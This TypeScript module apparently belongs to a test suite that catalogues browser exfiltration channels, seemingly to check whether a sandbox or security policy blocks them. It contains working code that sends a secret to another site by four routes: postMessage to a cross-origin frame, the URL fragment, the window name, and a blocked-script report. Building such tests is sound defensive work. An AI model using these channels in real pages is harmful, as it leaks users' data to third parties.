import { type Attack, row, type Secret, variant } from '../attack.ts';
import { note } from './bodies.ts';

/** Address of a page of another site that sends what it is handed. */
function relay(secret: Secret): string {
  return `${secret.elsewhere}relay`;
}

function letter(secret: Secret): string {
  return JSON.stringify({ url: `${secret.elsewhere}handed`, text: note(secret.text) });
}

/** What a page hands to something else that sends it: a page of another site, or the browser itself. */
export const HANDING_OVER: readonly Attack[] = [
  row('84', 'message to a frame of another site', (secret) => {
    const frame = Object.assign(document.createElement('iframe'), { src: relay(secret) });
    frame.addEventListener('load', () => frame.contentWindow?.postMessage(letter(secret), '*'));
    document.body.append(frame);
  }),
  variant(
    '84b',
    'fragment of the address of another site',
    (secret) => void window.open(`${relay(secret)}#${encodeURIComponent(letter(secret))}`),
  ),
  variant('84c', 'name of a window of another site', (secret) => void window.open(relay(secret), letter(secret))),
  row('85', 'sample of a blocked script in a report', (secret) => {
    const frame = Object.assign(document.createElement('iframe'), { src: `${secret.sink}reporting` });
    frame.addEventListener('load', () => {
      const inner = frame.contentDocument;
      if (!inner) return;
      const script = inner.createElement('script');
      script.textContent = `"${secret.value}"`;
      inner.body.append(script);
    });
    document.body.append(frame);
  }),
];
